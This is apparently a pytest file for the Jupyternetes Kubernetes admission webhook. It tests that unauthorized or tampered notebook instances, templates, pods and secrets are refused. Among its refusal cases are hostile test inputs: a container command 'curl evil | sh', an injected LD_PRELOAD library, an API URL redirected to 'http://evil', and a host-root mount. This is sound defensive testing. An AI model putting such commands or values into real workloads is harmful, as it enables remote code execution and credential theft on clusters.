"""The judge's decisions, without HTTP or a cluster: instances, templates, pods and PVCs."""

from __future__ import annotations

import base64
import copy
from typing import Any

import pytest

from jupyternetes import constants, models, render
from jupyternetes.webhook import defaults
from jupyternetes.webhook.judge import Judge, Verdict
from jupyternetes.webhook.policy import PolicyViolation
from jupyternetes.webhook.review import Request
from jupyternetes.webhook.settings import WebhookSettings
from tests import seeds
from tests.webhook import fakes

HUB = "system:serviceaccount:default:hub"
OPERATOR = "system:serviceaccount:jupyternetes:jupyternetes-operator"
SETTINGS = WebhookSettings(template_namespace="kadense", instance_creators=[HUB], operator_user=OPERATOR)


def _seed_instance() -> dict[str, Any]:
    instance = seeds.seed_instance()
    instance.pop("status")
    instance["metadata"]["uid"] = "11111111-2222-3333-4444-555555555555"
    return instance


def _mutated_template() -> dict[str, Any]:
    template = seeds.seed_template()
    for pod in template["spec"]["pods"]:
        pod["spec"], _ = defaults.apply(pod["spec"], defaults.PodDefaults({"cpu": "2", "memory": "4Gi"}))
    return template


def _judge(engine: fakes.FixedEngine | None = None, with_objects: bool = True, **config: Any) -> Judge:
    lookup = fakes.DictLookup(
        {("default", _seed_instance()["metadata"]["name"]): _seed_instance()} if with_objects else {},
        {("kadense", "default-template"): _mutated_template()} if with_objects else {},
    )
    return Judge(SETTINGS, fakes.data(**config), engine or fakes.FixedEngine(), lookup)


def _request(resource: str, obj: dict[str, Any] | None, **kwargs: Any) -> Request:
    return Request.model_validate(fakes.review(resource, obj, **kwargs)["request"])


def _rules(verdict: Verdict) -> set[str]:
    return {f.rule for f in verdict.denials}


def _rendered(kind: str) -> dict[str, Any]:
    manifests = render.render(models.parse_template(_mutated_template()), models.parse_instance(_seed_instance()))
    obj = copy.deepcopy((manifests.pods if kind == "Pod" else manifests.pvcs)[0].manifest)
    obj["metadata"]["ownerReferences"] = [{"apiVersion": "kadense.io/v1", "kind": "JupyterNotebookInstance",
                                           "name": _seed_instance()["metadata"]["name"],
                                           "uid": _seed_instance()["metadata"]["uid"], "controller": True}]
    return obj


class TestInstances:
    async def test_the_hub_may_create_the_seed_instance_with_a_warning_about_its_plain_text_token(self) -> None:
        verdict = await _judge().instance(_request("jupyternotebookinstances", _seed_instance(), user=HUB))
        assert verdict.allowed, verdict.message()
        assert any("jupyterhub.api_token" in w and "plain text" in w for w in verdict.warnings)

    async def test_nobody_else_may_create_instances(self) -> None:
        verdict = await _judge().instance(_request("jupyternotebookinstances", _seed_instance(), user="mallory"))
        assert _rules(verdict) == {"instance-creators"}
        assert "mallory may not create notebook instances" in verdict.message()

    async def test_a_group_can_be_a_creator(self) -> None:
        settings = SETTINGS.model_copy(update={"instance_creators": ["group:system:authenticated"]})
        judge = Judge(settings, fakes.data(), fakes.FixedEngine(), _judge().lookup)
        verdict = await judge.instance(_request("jupyternotebookinstances", _seed_instance(), user="anyone"))
        assert verdict.allowed, verdict.message()

    async def test_the_spec_cannot_change_after_creation(self) -> None:
        old = _seed_instance()
        new = copy.deepcopy(old)
        new["spec"]["variables"]["jupyterhub.user.name"] = "root"
        new["metadata"]["labels"] = {"fine": "to change"}
        verdict = await _judge().instance(_request("jupyternotebookinstances", new, operation="UPDATE", old=old,
                                                   user=HUB))
        assert _rules(verdict) == {"instance-immutable"}
        assert verdict.denials[0].path == "spec.variables"

    async def test_metadata_changes_are_fine(self) -> None:
        old = _seed_instance()
        new = copy.deepcopy(old)
        new["metadata"]["labels"] = {"fine": "to change"}
        verdict = await _judge().instance(_request("jupyternotebookinstances", new, operation="UPDATE", old=old,
                                                   user=HUB))
        assert verdict.allowed

    async def test_a_template_from_a_namespace_that_is_not_allowed(self) -> None:
        instance = _seed_instance()
        instance["spec"]["template"]["namespace"] = "kube-system"
        verdict = await _judge().instance(_request("jupyternotebookinstances", instance, user=HUB))
        assert _rules(verdict) == {"template-namespace"}
        assert "use a template in 'default' or 'kadense'" in verdict.message()

    async def test_an_instance_of_a_template_that_does_not_exist_is_refused_until_it_does(self) -> None:
        """Nothing reaches the cluster without having been judged against its template: with no template there is
        nothing to judge the variables against."""
        verdict = await _judge(with_objects=False).instance(
            _request("jupyternotebookinstances", _seed_instance(), user=HUB))
        assert _rules(verdict) == {"template-missing"}
        assert "template kadense/default-template does not exist" in verdict.message()

    async def test_an_instance_that_does_not_render_is_refused_naming_the_variable(self) -> None:
        instance = _seed_instance()
        del instance["spec"]["variables"]["jupyterhub.user.name"]
        verdict = await _judge().instance(_request("jupyternotebookinstances", instance, user=HUB))
        assert _rules(verdict) == {"render"}
        assert "unknown variable 'jupyterhub.user.name'" in verdict.message()

    async def test_the_rendered_pods_and_variables_go_to_the_policies(self) -> None:
        engine = fakes.FixedEngine()
        await _judge(engine).instance(_request("jupyternotebookinstances", _seed_instance(), user=HUB))
        (document,) = engine.documents
        assert document["kind"] == constants.INSTANCE_KIND
        assert document["pods"][0]["path"] == "rendered pod 'notebook': spec"
        assert document["pods"][0]["spec"]["containers"][0]["env"][0]["value"] == "852dc4bd4e4e4360b7ae94cffa4f1c76"
        assert "jupyterhub.user.name" in document["template_variables"]
        assert document["variables"]["jupyterhub.user.id"] == "1"


class TestTemplates:
    async def test_the_seed_template_passes_as_it_will_be_after_the_defaults(self) -> None:
        verdict = await _judge().template(_request("jupyternotebooktemplates", seeds.seed_template()))
        assert verdict.allowed, verdict.message()

    async def test_a_privileged_container_is_refused_by_the_floor_whatever_the_policies_say(self) -> None:
        template = seeds.seed_template()
        template["spec"]["pods"][0]["spec"]["containers"][0]["securityContext"] = {"privileged": True}
        verdict = await _judge().template(_request("jupyternotebooktemplates", template))
        assert "floor:privileged" in _rules(verdict)
        assert verdict.denials[0].path == "spec.pods[0].spec.containers[0].securityContext.privileged"

    async def test_malformed_placeholders_are_refused(self) -> None:
        template = seeds.seed_template()
        template["spec"]["pods"][0]["spec"]["containers"][0]["args"] = ["{unclosed"]
        verdict = await _judge().template(_request("jupyternotebooktemplates", template))
        assert _rules(verdict) == {"template-syntax"}

    @pytest.mark.parametrize(("mode", "allowed", "warned", "audited"),
                             [("enforce", False, 0, 0), ("warn", True, 1, 0), ("audit", True, 0, 1)])
    async def test_policy_modes(self, mode: str, allowed: bool, warned: int, audited: int) -> None:
        engine = fakes.FixedEngine([PolicyViolation("images", "spec.pods[0].spec.containers[0].image",
                                                    "image x is not on the allowlist", "use another")])
        verdict = await _judge(engine, modes={"images": mode}).template(
            _request("jupyternotebooktemplates", seeds.seed_template()))
        assert verdict.allowed is allowed
        assert sum("warn mode" in w for w in verdict.all_warnings()) == warned
        assert len(verdict.audit()) == audited

    async def test_every_violation_is_reported_together(self) -> None:
        engine = fakes.FixedEngine([PolicyViolation("images", "a", "m1", "f1"), PolicyViolation("resources", "b",
                                                                                                 "m2", "f2")])
        template = seeds.seed_template()
        template["spec"]["pods"][0]["spec"]["hostNetwork"] = True
        verdict = await _judge(engine).template(_request("jupyternotebooktemplates", template))
        assert _rules(verdict) == {"images", "resources", "floor:host-namespaces"}
        message = verdict.message()
        assert message.startswith("JupyterNotebookTemplate kadense/default-template is refused: ")
        assert "a: m1 (rule images); to comply: f1" in message


class TestWorkloads:
    @pytest.mark.parametrize("kind", ["Pod", "PersistentVolumeClaim"])
    async def test_the_operator_may_create_exactly_the_rendering(self, kind: str) -> None:
        resource = "pods" if kind == "Pod" else "persistentvolumeclaims"
        verdict = await _judge().workload(_request(resource, _rendered(kind), user=OPERATOR))
        assert verdict.allowed, verdict.message()

    async def test_nobody_else_may_create_a_labelled_pod(self) -> None:
        verdict = await _judge().workload(_request("pods", _rendered("Pod"), user="system:admin"))
        assert _rules(verdict) == {"operator-only"}

    async def test_a_single_jupyternetes_annotation_is_enough_to_be_judged(self) -> None:
        pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p", "namespace": "default", "annotations": {
            constants.ANNOTATION_INSTANCE_NAME: "8dc366d8a0f05869bfdb6e7eb3d83f65"}}, "spec": {"containers": []}}
        verdict = await _judge().workload(_request("pods", pod, user="system:admin"))
        assert _rules(verdict) == {"operator-only"}

    async def test_the_operator_may_not_create_unlabelled_pods(self) -> None:
        pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p", "namespace": "default"},
               "spec": {"containers": [{"name": "c", "image": "quay.io/jupyter/base-notebook"}]}}
        verdict = await _judge().workload(_request("pods", pod, user=OPERATOR))
        assert _rules(verdict) == {"rendered-only"}

    @pytest.mark.parametrize(("edit", "path"), [
        (lambda p: p["spec"]["containers"][0].update(image="quay.io/jupyter/other:1"), "spec.containers[0].image"),
        (lambda p: p["spec"]["containers"][0]["env"].append({"name": "X", "value": "1"}), "spec.containers[0].env"),
        (lambda p: p["spec"].update(hostNetwork=True), "spec.hostNetwork"),
        (lambda p: p["spec"]["containers"].append(copy.deepcopy(p["spec"]["containers"][0]) | {"name": "sidecar"}),
         "spec.containers"),
        (lambda p: p["spec"]["containers"][0].update(command=["/bin/sh", "-c", "curl evil | sh"]),
         "spec.containers[0].command"),
        (lambda p: p["spec"]["volumes"].append({"name": "host", "hostPath": {"path": "/"}}), "spec.volumes"),
        (lambda p: p["metadata"]["labels"].update(extra="label"), "metadata.labels"),
    ], ids=["other-image", "extra-env", "host-network", "extra-container", "changed-command", "host-path",
            "extra-label"])
    async def test_the_operator_may_not_create_anything_a_template_would_not_render(self, edit: Any,
                                                                                     path: str) -> None:
        pod = _rendered("Pod")
        edit(pod)
        verdict = await _judge().workload(_request("pods", pod, user=OPERATOR))
        assert "matches-template" in _rules(verdict)
        assert any(f.path == path for f in verdict.denials), [f.describe() for f in verdict.denials]

    @pytest.mark.parametrize("value", [None, {}, [], True, "lots"], ids=["null", "object", "list", "bool", "word"])
    async def test_a_quantity_of_the_wrong_type_is_a_difference_not_an_internal_error(self, value: Any) -> None:
        """Found by the fuzzer: a PVC whose storage request was null made the comparison raise."""
        pvc = _rendered("PersistentVolumeClaim")
        pvc["spec"]["resources"]["requests"]["storage"] = value
        verdict = await _judge().workload(_request("persistentvolumeclaims", pvc, user=OPERATOR))
        assert "matches-template" in _rules(verdict)
        assert any(f.path == "spec.resources.requests.storage" for f in verdict.denials), verdict.message()

    async def test_api_server_defaults_are_not_differences(self) -> None:
        pod = _rendered("Pod")
        spec = pod["spec"]
        spec.update(dnsPolicy="ClusterFirst", restartPolicy="Always", terminationGracePeriodSeconds=30,
                    schedulerName="default-scheduler", enableServiceLinks=True, serviceAccountName="default",
                    serviceAccount="default", priority=0, preemptionPolicy="PreemptLowerPriority",
                    tolerations=[{"key": "node.kubernetes.io/not-ready", "operator": "Exists", "effect": "NoExecute",
                                  "tolerationSeconds": 300}])
        container = spec["containers"][0]
        container.update(terminationMessagePath="/dev/termination-log", terminationMessagePolicy="File",
                         imagePullPolicy="IfNotPresent")
        container["resources"]["requests"] = {"cpu": "2", "memory": "4096Mi"}
        container["ports"][0]["protocol"] = "TCP"
        verdict = await _judge().workload(_request("pods", pod, user=OPERATOR))
        assert verdict.allowed, verdict.message()

    @pytest.mark.parametrize(("image", "policy"), [
        ("quay.io/jupyter/base-notebook", "Always"),
        ("quay.io/jupyter/base-notebook:latest", "Always"),
        ("quay.io/jupyter/base-notebook:2026-11-16", "IfNotPresent"),
        ("localhost:5000/notebook", "Always"),
        ("quay.io/jupyter/base-notebook@sha256:" + "a" * 64, "IfNotPresent"),
        ("quay.io/jupyter/base-notebook:latest@sha256:" + "a" * 64, "Always"),
    ], ids=["bare", "latest", "tag", "registry-port", "digest", "latest-and-digest"])
    def test_the_api_servers_pull_policy_default_is_computed_as_kubernetes_does(self, image: str,
                                                                                policy: str) -> None:
        """Kubernetes defaults to Always only for the tag `latest` (a bare name means latest); an image pinned by
        digest alone has no tag, so IfNotPresent. Found on the real node, where images are pinned by digest."""
        from jupyternetes.webhook import compare

        assert compare._pull_policy({"image": image}) == policy

    async def test_a_pod_for_an_instance_that_does_not_exist(self) -> None:
        verdict = await _judge(with_objects=False).workload(_request("pods", _rendered("Pod"), user=OPERATOR))
        assert "no instance default/8dc366d8a0f05869bfdb6e7eb3d83f65 exists" in verdict.message()

    async def test_owner_references_must_point_at_the_instance(self) -> None:
        pod = _rendered("Pod")
        pod["metadata"]["ownerReferences"][0]["uid"] = "someone-else"
        verdict = await _judge().workload(_request("pods", pod, user=OPERATOR))
        assert any(f.path == "metadata.ownerReferences" for f in verdict.denials)

    async def test_nobody_may_label_an_existing_pod_into_jupyternetes(self) -> None:
        old = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "mine", "namespace": "default"},
               "spec": {"containers": [{"name": "c", "image": "x"}]}}
        new = copy.deepcopy(old)
        new["metadata"]["labels"] = {constants.LABEL_INSTANCE: "8dc366d8a0f05869bfdb6e7eb3d83f65"}
        verdict = await _judge().workload(_request("pods", new, operation="UPDATE", old=old, user="system:admin"))
        assert _rules(verdict) == {"jupyternetes-objects"}

    async def test_a_jupyternetes_pod_cannot_be_changed(self) -> None:
        old = _rendered("Pod")
        new = copy.deepcopy(old)
        new["spec"]["containers"][0]["image"] = "quay.io/jupyter/other"
        verdict = await _judge().workload(_request("pods", new, operation="UPDATE", old=old, user="system:admin"))
        assert _rules(verdict) == {"jupyternetes-objects"}

    async def test_kubernetes_may_bind_a_jupyternetes_pvc_to_a_volume(self) -> None:
        old = _rendered("PersistentVolumeClaim")
        new = copy.deepcopy(old)
        new["spec"]["volumeName"] = "pvc-1234"
        new["metadata"]["annotations"]["pv.kubernetes.io/bind-completed"] = "yes"
        verdict = await _judge().workload(_request("persistentvolumeclaims", new, operation="UPDATE", old=old,
                                                   user="system:serviceaccount:kube-system:persistent-volume-binder"))
        assert verdict.allowed

    async def test_unrelated_pods_are_not_judged(self) -> None:
        pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "other", "namespace": "default"},
               "spec": {"containers": [{"name": "c", "image": "anything", "securityContext": {"privileged": True}}]}}
        verdict = await _judge().workload(_request("pods", pod, user="system:admin"))
        assert verdict.allowed


def _secret(**variables: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """(instance, the Secret the operator makes for it, owned), with `variables` added to the instance."""
    instance = _seed_instance()
    instance["spec"]["variables"].update(variables)
    secret = render.instance_secret(models.parse_instance(instance), {})
    assert secret is not None
    secret["data"] = {k: base64.b64encode(v.encode()).decode() for k, v in secret.pop("stringData").items()}
    secret["metadata"]["ownerReferences"] = [{"apiVersion": "kadense.io/v1", "kind": "JupyterNotebookInstance",
                                              "name": instance["metadata"]["name"],
                                              "uid": instance["metadata"]["uid"], "controller": True}]
    return instance, secret


def _secret_judge(instance: dict[str, Any], **config: Any) -> Judge:
    lookup = fakes.DictLookup({("default", instance["metadata"]["name"]): instance},
                              {("kadense", "default-template"): _mutated_template()})
    return Judge(SETTINGS, fakes.data(**config), fakes.FixedEngine(), lookup)


class TestTheInstancesSecret:
    async def test_the_operator_may_create_exactly_the_rendered_secret(self) -> None:
        instance, secret = _secret(**{"jupyterhub.env.JUPYTERHUB_API_URL": "http://hub/api"})
        verdict = await _secret_judge(instance).workload(_request("secrets", secret, user=OPERATOR))
        assert verdict.allowed, verdict.message()

    @pytest.mark.parametrize(("edit", "rule", "words"), [
        (lambda s: s.update(type="kubernetes.io/service-account-token"), "matches-template", "is not Opaque"),
        (lambda s: s["data"].update(LD_PRELOAD=base64.b64encode(b"/tmp/x.so").decode()), "matches-template",
         "are not the instance's"),
        (lambda s: s["data"].update(JUPYTERHUB_API_URL=base64.b64encode(b"http://evil").decode()),
         "matches-template", "differs from the instance's variable"),
        (lambda s: s["metadata"]["ownerReferences"][0].update(uid="another"), "matches-template",
         "the only owner reference must be a controller reference"),
        (lambda s: s["metadata"].update(name="jupyter-someone-else"), "matches-template", "metadata.name"),
        (lambda s: s["metadata"]["labels"].update({constants.LABEL_ENTRY_KIND: "pod"}), "rendered-only",
         "a Secret is rendered from a 'secret' entry"),
    ], ids=["service-account-token", "extra key", "changed value", "other owner", "other name", "wrong entry kind"])
    async def test_anything_else_is_refused(self, edit: Any, rule: str, words: str) -> None:
        instance, secret = _secret(**{"jupyterhub.env.JUPYTERHUB_API_URL": "http://hub/api"})
        edit(secret)
        verdict = await _secret_judge(instance).workload(_request("secrets", secret, user=OPERATOR))
        assert rule in _rules(verdict) and words in verdict.message(), verdict.message()

    async def test_a_sealed_value_is_held_to_the_variable_rules_without_being_repeated(self) -> None:
        instance = _seed_instance()
        instance["spec"]["sealedVariables"] = {"jupyterhub.api_token": "ciphertext"}
        del instance["spec"]["variables"]["jupyterhub.api_token"]
        secret = render.instance_secret(models.parse_instance(instance), {"jupyterhub.api_token": "not hex\nx"})
        assert secret is not None
        secret["data"] = {k: base64.b64encode(v.encode()).decode() for k, v in secret.pop("stringData").items()}
        secret["metadata"]["ownerReferences"] = _secret(**{"jupyterhub.env.X": "1"})[1]["metadata"]["ownerReferences"]
        judge = _secret_judge(instance, variables={"max_length": 4096,
                                                   "patterns": {"jupyterhub.api_token": "^[0-9a-f]{32}$"}})
        verdict = await judge.workload(_request("secrets", secret, user=OPERATOR))
        assert _rules(verdict) == {"variables"}, verdict.message()
        assert "spec.sealedVariables['jupyterhub.api_token']: the opened value does not match" in verdict.message()
        assert "not hex" not in verdict.message()

    @pytest.mark.parametrize(("pattern", "value", "allowed"), [
        ("^[0-9]{1,20}$", "12345", True),
        ("^[0-9]{1,20}$", "12345\n", False),
        ("^\\d+$", "\u0661\u0662\u0663", False),
        ("^\\w+$", "abc\n", False),
        ("[0-9]+", "12; drop", False),
        ("[0-9]+", "12", True),
        ("(?<=a)b", "b", False),
        ("^(a+)+$", "a" * 4000 + "b", False),
        ("[0-9]+)|([0-9]+", "1; anything", False),
        ("\\Qa\\E\\Q)", "a)", False),
        ("\\C", "a", False),
    ], ids=["anchored", "final newline", "other script's digits", "word and newline", "unanchored",
            "unanchored whole", "does not compile", "backtracking pattern", "escapes the anchors",
            "quote escapes the anchors", "any byte"])
    async def test_a_sealed_value_is_judged_as_opa_judges_a_plain_one(self, pattern: str, value: str,
                                                                       allowed: bool) -> None:
        """The whole value, in RE2 (OPA's regex.match under policies/variables' ^(?:...)$), never Python's `re`."""
        instance = _seed_instance()
        instance["spec"]["sealedVariables"] = {"jupyterhub.api_token": "ciphertext"}
        del instance["spec"]["variables"]["jupyterhub.api_token"]
        secret = render.instance_secret(models.parse_instance(instance), {"jupyterhub.api_token": value})
        assert secret is not None
        secret["data"] = {k: base64.b64encode(v.encode()).decode() for k, v in secret.pop("stringData").items()}
        secret["metadata"]["ownerReferences"] = _secret(**{"jupyterhub.env.X": "1"})[1]["metadata"]["ownerReferences"]
        judge = _secret_judge(instance, variables={"max_length": 4096, "patterns": {"jupyterhub.api_token": pattern}})
        verdict = await judge.workload(_request("secrets", secret, user=OPERATOR))
        assert verdict.allowed is allowed, verdict.message()

    async def test_the_operator_may_not_create_anything_in_an_exempt_namespace(self) -> None:
        instance, secret = _secret(**{"jupyterhub.env.X": "1"})
        verdict = await _secret_judge(instance).workload(_request("secrets", secret, user=OPERATOR,
                                                                  namespace="kube-system"))
        assert _rules(verdict) == {"exempt-namespaces"}


class TestFieldsTheFloorCannotJudge:
    def _pod(self, edit: Any) -> dict[str, Any]:
        pod = _rendered("Pod")
        edit(pod["spec"])
        return pod

    async def test_a_field_from_a_newer_kubernetes_is_refused_naming_it(self) -> None:
        judge = _judge()
        verdict = await judge.workload(_request("pods", self._pod(lambda s: s.update(futureIsolation="off")),
                                                user=OPERATOR))
        assert "floor:unknown-field" in _rules(verdict)
        assert "field 'futureIsolation' is not a field Jupyternetes knows (Kubernetes v1.37.1)" in verdict.message()

    async def test_policy_data_can_allow_a_field_by_its_pattern(self) -> None:
        template = _mutated_template()
        template["spec"]["pods"][0]["spec"]["nodeName"] = "node-1"
        refused = await _judge().template(_request("jupyternotebooktemplates", template, user="officer"))
        assert "floor:field-not-allowed" in _rules(refused)
        allowed = await _judge(fields={"allowed": ["spec.nodeName"]}).template(
            _request("jupyternotebooktemplates", template, user="officer"))
        assert "floor:field-not-allowed" not in _rules(allowed), allowed.message()
        assert allowed.allowed, allowed.message()

    async def test_a_component_service_account_is_refused_whatever_the_policy_data_says(self) -> None:
        template = _mutated_template()
        template["spec"]["pods"][0]["spec"]["serviceAccountName"] = "jupyternetes-operator"
        verdict = await _judge(identity={"allowed_service_accounts": ["jupyternetes-operator"]}).template(
            _request("jupyternotebooktemplates", template, user="officer"))
        assert "floor:component-identity" in _rules(verdict)

    async def test_a_wrong_type_anywhere_the_webhook_reads_is_a_named_denial(self) -> None:
        pod = _rendered("Pod")
        pod["spec"]["containers"][0]["env"] = {"not": "a list"}
        pod["metadata"]["labels"] = {"a": 1}
        verdict = await _judge().workload(_request("pods", pod, user=OPERATOR))
        assert _rules(verdict) == {"schema"}
        assert "spec.containers[0].env: must be a list" in verdict.message()
        assert "metadata.labels: must map strings to strings" in verdict.message()



async def test_a_review_the_policy_engine_could_not_answer_is_counted() -> None:
    """Reported: jupyternetes_webhook_policy_engine_errors_total was declared and never moved."""
    from prometheus_client import REGISTRY

    from jupyternetes.webhook.judge import Judge
    from jupyternetes.webhook.review import Request
    from jupyternetes.webhook.settings import WebhookSettings

    before = REGISTRY.get_sample_value("jupyternetes_webhook_policy_engine_errors_total") or 0
    judge = Judge(WebhookSettings(template_namespace="kadense"), fakes.data(), fakes.FixedEngine(fail="OPA is down"),
                  fakes.DictLookup())
    request = Request.model_validate(fakes.review("jupyternotebooktemplates", seeds.seed_template())["request"])
    verdict = await judge.template(request)
    assert verdict.undecided
    assert REGISTRY.get_sample_value("jupyternetes_webhook_policy_engine_errors_total") == before + 1
